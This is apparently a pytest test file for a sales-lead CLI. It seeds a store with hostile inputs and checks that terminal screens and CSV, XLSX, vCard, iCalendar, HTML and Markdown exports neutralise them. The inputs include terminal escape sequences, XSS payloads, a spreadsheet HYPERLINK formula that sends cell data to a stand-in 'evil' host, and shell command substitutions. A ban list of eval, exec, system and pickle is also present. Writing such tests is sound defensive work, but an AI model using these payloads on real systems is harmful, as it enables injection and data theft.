"""What somebody typed steers nothing: every form in which the program writes, one hostile store."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from zipfile import ZipFile

import pytest
from tests.faults.bench import Bench

STEERING = "\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil\x1b\\\x9b2J\x08\x7f\r"
TURNED = "\u202eexe.\u2066"
MARKUP = "[bold red]x[/bold red][link=http://evil]y[/link]"
ELEMENTS = (
    "<img src=x onerror=alert(1)><script>alert(1)</script><!--\" onmouseover='alert(1) &amp;&#60;b>"
)
MARKDOWN = "](javascript:alert(1)) **b** `c` | d\n# e\n- <@all>"
FORMULA = '=HYPERLINK("http://evil?"&A1,"x")'
CALENDAR = "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil;,\\n"
CONTACT = "\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:evil"
SHELL = "$(touch owned)`touch owned`;touch owned|touch owned&&touch owned"
STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
HOSTILE = (
    *(STEERING, TURNED, MARKUP, ELEMENTS, MARKDOWN, FORMULA, CALENDAR, CONTACT, SHELL),
    *(f"{start}1+1|calc" for start in STARTS[:4]),
)
PLAIN = tuple(f"Plain{number}" for number in range(len(HOSTILE)))
"""As many harmless names: a page of either store must be made alike."""
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
SCREENS = (
    *("list", "today", "due", "history", "find x", "show #1", "show #2", "show #5", "activity"),
    *("funnel --open B-C", "week", "week --md", "deal list", "product list", "tags list"),
    *("source list", "sales", "channels", "rfm", "pareto", "referrals", "audit", "duplicates"),
    *("segment list", "cost list", "forecast", "reason list", "history #3", "why #1", "quota"),
    *("history --op 2", "history --op 4", "history --op 12", "bin", "doctor", "retention report"),
    *("export-person #1", "export-person #4", "review", "leak", "activity --month"),
    *("digest --dry-run --to http://localhost --shape wecom", "export --format jsonl"),
)
FILES = ("x.csv", "x.xlsx", "x.vcf", "x.ics", "x.jsonl", "r.html", "r.md", "r.json", "r.xlsx")


class Store:
    """A store in which everything that was typed is one of some words."""

    def __init__(self, folder: Path, words: tuple[str, ...]) -> None:
        self.bench = Bench(folder / "store", {"LEADFUNNEL_USER": words[2]})
        self.bench.open()
        self.bench.given = set(FILES)
        for number, word in enumerate(words):
            self.run("add", "--force", f"--name={word}", f"--company={word}", f"--source={word}",
                     f"--note={word}", f"--phone=138001380{number:02}")  # fmt: skip
            who = f"#{number + 1}"
            self.run("next", who, "2026-11-22 15:00", "--", word)
            self.run("log", who, "call", f"--at=2026-11-2{number % 2} 10:00", "--", word)
            self.run("edit", who, f"--address={word}", f"--set=supplier={word}")
            self.run("tag", who, "--", "".join(word.split())[:90])
            self.run("product", "add", f"--price={number + 1}", "--", word)
            self.run("deal", "add", who, "--amount=5000", "--close=2026-12-01", f"--title={word}")
            self.run("assign", who, f"--to={word}")
            self.run("drop", who, "--lost", f"--reason={word}") if number % 3 == 2 else None
        self.made = {name: self._file(name) for name in FILES}

    def run(self, *words: str) -> str:
        """Type a command, some of which a hostile word makes unreadable; return its output."""
        ran = self.bench.here(list(words), b"")
        assert ran.rc in (0, 2, 3, 5), (words, ran.err)
        assert not STEERS.search(ran.err), words
        assert ran.rc or not STEERS.search(ran.out.replace("\r\n", "\n")), words
        return ran.out

    def _file(self, name: str) -> bytes:
        self.run("report" if name.startswith("r.") else "export", "-o", name)
        return (self.bench.folder / name).read_bytes()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return Store(tmp_path_factory.mktemp("hostile"), HOSTILE)


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return Store(tmp_path_factory.mktemp("plain"), PLAIN)


@pytest.mark.parametrize("screen", SCREENS)
def test_a_screen_holds_nothing_that_steers_a_terminal(hostile: Store, screen: str) -> None:
    for more in ((), ("--json",)):
        hostile.run(*screen.split(), *more)


def test_markup_is_text_on_a_screen_and_names_are_whole_in_json(hostile: Store) -> None:
    assert MARKUP in hostile.run("list")
    assert "\\x1b[31m" in hostile.run("list")
    items = json.loads(hostile.run("list", "--json"))["items"]
    named = {item["id"]: item["name"] for item in items}
    assert [named[number] for number in (3, 4, 6, 9)] == [MARKUP, ELEMENTS, FORMULA, SHELL]


def test_csv(hostile: Store) -> None:
    rows = list(csv.reader(io.StringIO(hostile.made["x.csv"].decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(STARTS[:6]) and not _phone(cell)] == []
    assert f"'{FORMULA}" in cells


def _phone(cell: str) -> bool:
    return re.fullmatch(r"\+\d+", cell) is not None


@pytest.mark.parametrize("name", ["x.xlsx", "r.xlsx"])
def test_workbooks(hostile: Store, name: str) -> None:
    from openpyxl import load_workbook

    data = hostile.made[name]
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    own = {cell.value for cell in cells if cell.data_type == "f"}
    assert not any(str(formula).startswith(("=HYPER", "=1+1")) for formula in own)
    assert not any(cell.hyperlink for cell in cells)
    parts = ZipFile(io.BytesIO(data)).namelist()
    assert not [part for part in parts if re.search("externalLink|vbaProject|connections", part)]


def test_contacts(hostile: Store) -> None:
    lines = _unfolded(hostile.made["x.vcf"])
    assert lines.count("BEGIN:VCARD") == lines.count("END:VCARD") == len(HOSTILE)
    assert not [line for line in lines if line.startswith("FN:evil")]


def test_calendars(hostile: Store) -> None:
    lines = _unfolded(hostile.made["x.ics"])
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") > 0
    assert not [line for line in lines if line.startswith("SUMMARY:evil")]
    known = re.compile(r"[A-Z][A-Z0-9-]*[;:]")
    assert [line for line in lines if not known.match(line)] == []


def _unfolded(data: bytes) -> list[str]:
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    text = data.decode().replace("\r\n ", "")
    assert "\r" not in text.replace("\r\n", "\n")
    return text.replace("\r\n", "\n").rstrip("\n").split("\n")


def test_json(hostile: Store) -> None:
    lines = [json.loads(line) for line in hostile.made["x.jsonl"].decode().split("\n") if line]
    assert lines[-1]["end"] == len(lines) - 2
    text = hostile.made["r.json"].decode()
    assert not STEERS.search(text)
    assert json.loads(text)["schema"].startswith("leadfunnel.")


class Outline(HTMLParser):
    """The elements of a page with the names of their attributes, and where its links lead."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: set[tuple[str, tuple[str, ...]]] = set()
        self.links: list[str] = []
        self.policy = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add((tag, tuple(sorted(name for name, _ in attrs))))
        told = dict(attrs)
        self.links += [told[name] or "" for name in ("href", "src", "action") if name in told]
        if told.get("http-equiv") == "Content-Security-Policy":
            self.policy = told["content"] or ""


def test_a_page_takes_nothing_from_data(hostile: Store, plain: Store) -> None:
    evil, good = (Outline(store.made["r.html"].decode()) for store in (hostile, plain))
    assert evil.elements == good.elements
    assert [link for link in evil.links if not link.startswith(("#", "data:"))] == []
    assert evil.policy == good.policy
    assert "default-src 'none'" in evil.policy
    assert not STEERS.search(hostile.made["r.html"].decode())


def test_markdown(hostile: Store) -> None:
    for text in (hostile.made["r.md"].decode(), hostile.run("week", "--md")):
        bare = re.sub(r"\\.", "", text)
        assert not re.search(r"<\s*(img|script|!--|@all|/)", bare)
        assert "](javascript" not in bare
        assert not re.search(r"^# e", text, re.MULTILINE)
        assert not STEERS.search(text)


def test_nothing_typed_reaches_a_shell_or_is_run(hostile: Store) -> None:
    assert not list(hostile.bench.folder.rglob("owned"))
    source = Path(__file__).parents[2] / "src" / "leadfunnel"
    found = [call for path in source.rglob("*.py") for call in _calls(path)]
    assert [call for call in found if not call.startswith("record.py")] == []


def _calls(path: Path) -> Iterator[str]:
    """Yield the calls by which text could be run; records are made of names in the program."""
    banned = {"eval", "exec", "system", "popen", "loads_pickle", "unpickle"}
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            name = getattr(node.func, "id", getattr(node.func, "attr", ""))
            shell = any(word.arg == "shell" for word in node.keywords)
            own = isinstance(node.func, ast.Attribute) and name in ("exec", "eval")
            if (name in banned and not own) or shell:
                yield f"{path.name}:{node.lineno} {name}"
        if isinstance(node, ast.Import) and any(one.name == "pickle" for one in node.names):
            yield f"{path.name}:{node.lineno} pickle"


SECRET = "S3cr3tKey"  # noqa: S105 - of nobody
HOOKS = (
    f"https://qyapi.weixin.qq.com:1/cgi-bin/webhook/send?key={SECRET}",
    f"http://127.0.0.1:1/robot/{SECRET}",
    f"https://{SECRET}@hooks.slack.com:1/services/{SECRET}",
    f"https://[::{SECRET}/x",
    f"ftp://oapi.dingtalk.com/{SECRET}",
)


@pytest.mark.parametrize("hook", HOOKS)
def test_the_address_of_a_webhook_is_a_secret(hostile: Store, hook: str) -> None:
    folder = hostile.bench.folder
    (folder / "webhooks.toml").write_text(f'team = "{hook}"\nbroken', encoding="utf-8")
    said = []
    for more in (["--shape", "wecom"], [], ["--json", "--shape", "slack"], ["--to", "team"]):
        words = ["digest", "--to", hook, *more]
        ran = hostile.bench.here(words, b"")
        assert ran.rc != 0
        said.append(ran.out + ran.err)
    said += [hostile.run("history", "--json"), hostile.run("config", "list")]
    assert not [text for text in said if SECRET in text]
    (folder / "webhooks.toml").unlink()
    kept = (path.read_bytes() for path in folder.rglob("*") if path.is_file())
    assert not any(SECRET.encode() in data for data in kept)
